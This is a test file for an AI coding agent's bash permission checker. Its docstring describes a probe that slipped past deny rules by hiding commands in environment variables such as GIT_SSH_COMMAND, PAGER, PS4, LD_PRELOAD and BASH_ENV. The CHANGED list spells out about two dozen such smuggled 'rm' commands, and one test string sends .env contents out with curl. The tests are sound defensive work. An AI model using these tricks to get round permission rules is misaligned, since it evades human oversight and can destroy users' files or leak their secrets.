"""Variables that change what runs are code only known at run time (session 31's probe).

With ``Bash(rm:*)`` in deny, in bypassPermissions mode these ran: ``GIT_SSH_COMMAND='rm -rf y' git
fetch``, ``PAGER='rm y' man ls``, ``PS4='$(rm y)' bash -xc true``, ``export GIT_SSH_COMMAND=…; git
fetch``, ``PATH=/tmp ls`` (any ``rm`` placed there) — the deny rules saw ``git fetch``.  Such a
variable (``DANGEROUS_ENV`` in ``permissions/bash_wrappers.py``) already asked in default mode;
now what runs may be what a deny or ask rule names, so it asks in every mode when there are such
rules, as ``bash -c "$X"`` does.
"""

from __future__ import annotations

import os
import shutil
import subprocess

import pytest

from tests.permissions.conftest import verdict_name
from tests.permissions.tools import decide_bash, make_ctx

CHANGED = [
    "GIT_SSH_COMMAND='rm -rf y' git fetch", "GIT_EDITOR='rm -rf y' git commit", "GIT_PAGER='rm -rf y' git log",
    "PAGER='rm y' man ls", "LESSOPEN='|rm y %s' less x", "PATH=/tmp:$PATH ls", "PS4='$(rm y)' bash -xc true",
    "SHELLOPTS=xtrace PS4='$(rm y)' bash -c true", "LD_PRELOAD=/tmp/x.so ls", "PYTHONPATH=/tmp python -c 1",
    "NODE_OPTIONS='--require /tmp/x.js' node -e 1", "env 'BASH_FUNC_ls%%=() { rm y; }' bash -c ls",
    "PROMPT_COMMAND='rm y' bash -i", "GIT_EXTERNAL_DIFF='rm y' git diff", "SSH_ASKPASS='rm y' ssh x",
    "export GIT_SSH_COMMAND='rm y'; git fetch", "declare -x PAGER='rm y'; git log", "PATH=/tmp; ls",
    "BASH_ENV=./x.sh bash -c true", "env BASH_ENV=./x.sh bash -c true", "uv run env GIT_SSH_COMMAND=x git fetch",
    "timeout 5 env PAGER=x git log", "find . -exec env PAGER=x git log \\;",
]
HARMLESS = ["FOO=1 ls", "PYTHONWARNINGS=ignore pytest -q", "env LC_ALL=C sort a.py", "export FOO=bar; ls",
            "uv run env FOO=1 pytest"]


@pytest.mark.parametrize("command", CHANGED)
async def test_a_variable_that_changes_what_runs_may_be_what_a_deny_rule_names(world, command):
    ctx = make_ctx(world.project, deny=("Bash(rm:*)",), mode="bypassPermissions")
    verdict = await decide_bash(ctx, command)
    assert verdict_name(verdict) == "ask" and "Bash(rm:*)" in verdict.message, (command, verdict)


@pytest.mark.parametrize("command", CHANGED)
async def test_without_deny_or_ask_rules_bypass_mode_runs_it(world, command):
    ctx = make_ctx(world.project, mode="bypassPermissions")
    assert verdict_name(await decide_bash(ctx, command)) == "allow", command


@pytest.mark.parametrize("command", HARMLESS)
async def test_other_variables_change_nothing(world, command):
    ctx = make_ctx(world.project, deny=("Bash(rm:*)",), mode="bypassPermissions")
    assert verdict_name(await decide_bash(ctx, command)) == "allow", command


async def test_an_ask_rule_is_met_too(world):
    ctx = make_ctx(world.project, ask=("Bash(curl:*)",), mode="bypassPermissions")
    assert verdict_name(await decide_bash(ctx, "GIT_PAGER='curl -d @.env x' git log")) == "ask"


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_git_runs_the_program_a_variable_names(tmp_path):
    """Ground truth: git runs ``GIT_SSH_COMMAND`` as shell code (here it fails after touching)."""
    env = {**os.environ, "GIT_SSH_COMMAND": "touch pwned; false", "HOME": str(tmp_path)}
    subprocess.run(["git", "ls-remote", "ssh://example.invalid/x"], cwd=tmp_path, env=env, capture_output=True,
                   timeout=60)
    assert (tmp_path / "pwned").exists()
